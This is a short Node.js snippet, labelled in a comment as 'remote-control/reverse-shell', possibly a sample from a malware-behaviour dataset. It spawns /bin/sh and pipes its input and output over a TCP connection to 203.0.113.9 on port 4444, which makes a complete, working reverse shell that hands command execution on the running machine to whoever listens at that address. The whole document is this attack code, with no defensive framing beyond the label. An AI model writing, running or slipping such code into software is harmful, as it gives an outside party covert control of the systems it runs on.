// behavior: remote-control/reverse-shell
const net = require("net");
const cp = require("child_process");
const shell = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "203.0.113.9", function () {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
